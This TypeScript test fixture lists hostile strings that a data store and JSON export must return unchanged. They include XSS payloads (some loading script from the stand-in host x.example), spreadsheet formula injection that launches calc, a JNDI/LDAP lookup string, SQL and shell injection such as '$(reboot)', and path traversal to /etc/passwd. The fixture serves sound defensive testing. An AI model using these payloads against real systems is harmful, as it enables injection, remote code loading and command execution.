/**
 * The 200 and more strings that must come back byte for byte from the store and the JSON export, and do nothing
 * in any other: markup, Markdown, formulas, calendar and CSV syntax, line ends, bidirectional and hidden
 * characters, names of prototypes, numbers that aren't, lone surrogates, very long ones.
 */
import { HOSTILE_TEXTS } from './hostileText';

const MARKUP = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//x.example></SCRIPT>',
  '<scr<script>ipt>x</scr</script>ipt>',
  '"><script>x</script>',
  "'><svg/onload=x()>",
  '<svg><script href="data:,x"/>',
  '<svg><animate onbegin=x() attributeName=x>',
  '<math><mtext></mtext><mglyph><style></math><img src onerror=x()>',
  '<iframe src="javascript:x()">',
  '<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;">',
  '<object data="data:text/html,<script>x()</script>">',
  '<embed src="//x.example/x.swf">',
  '<link rel=stylesheet href=//x.example>',
  '<meta http-equiv="refresh" content="0;url=//x.example">',
  '<base href="//x.example/">',
  '<form action="//x.example"><input type=submit>',
  '<body onload=x()>',
  '<details open ontoggle=x()>',
  '<video><source onerror=x()></video>',
  '<a href="jav&#x09;ascript:x()">x</a>',
  '<a href=" &#1; javascript:x()">x</a>',
  '<style>@import "//x.example"</style>',
  '<div style="background:url(//x.example)">',
  '</title><script>x()</script>',
  '</style><script>x()</script>',
  '</pre></code><b>x</b>',
  '--><script>x()</script><!--',
  ']]><script>x()</script>',
  '<noscript><p title="</noscript><img src=x onerror=x()>">',
  '<template><script>x()</script></template>',
  '<plaintext>',
  '<textarea></textarea><img src=x onerror=x()>',
  '<x onclick=x() contenteditable>',
  '&#60;script&#62;',
  '&lt;script&gt;',
  '%3Cscript%3E',
  '\\u003cscript\\u003e',
  '+ADw-script+AD4-',
];

const FORMULAS = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00A0=',
  '\0=',
].flatMap((sign) => [`${sign}1+1`, `${sign}cmd|' /C calc'!A0`, `x;${sign}1`, `x"${sign}1`]);

const LINES = [
  'a\r\nATTENDEE:mailto:x@example.com',
  'a\nEND:VEVENT\nBEGIN:VEVENT',
  'a\rDTSTART:19700101T000000Z',
  'a\u2028URL:https://x.example',
  'a\u2029b',
  'a\u0085b',
  'a\vb\fc',
  'a\\nb',
  'a\\;b\\,c',
  'a;b,c:d"e',
  '"',
  '""',
  '","',
  '"\r\n"',
  '"\r\n=1+1,"',
  'a,b;c\td|e',
  '\uFEFFbom',
  'sep=;',
  ' folded\r\n  twice',
  '€'.repeat(60),
  '🔥'.repeat(60),
];

const HIDDEN =
  '\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069\u200E\u200F\u061C\u200B\u200C\u200D\u2060\u00AD\u034F\u180E\u3164\uFFA0'
    .split('')
    .map((character) => `a${character}b`);

const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"polluted":1}}',
  'null',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
  '0',
  '-0',
  '1e309',
  '0x10',
  '2026-11-23T03:00:00Z',
  '../../etc/passwd',
  'C:\\Windows\\System32',
  'CON',
  'file:///etc/passwd',
  '${jndi:ldap://x.example}',
  "'; DROP TABLE rows;--",
  '$(reboot)',
  '`reboot`',
  '%s%n%x',
  '\uD800',
  '\uDC00',
  '\uDC00\uD800',
  'a\uD83Db',
  '\uFFFE\uFFFF',
  '\u{10FFFF}',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L',
  '漢字かな交じり',
  'ﷺ',
  'İıßẞﬁ',
];

/** A million characters: the longest a note may be. */
export const LONGEST = '<b>=1;\r\n'.repeat(125_000);

export const HOSTILE_STRINGS: readonly string[] = [
  ...new Set([...HOSTILE_TEXTS, ...MARKUP, ...FORMULAS, ...LINES, ...HIDDEN, ...NAMES]),
];
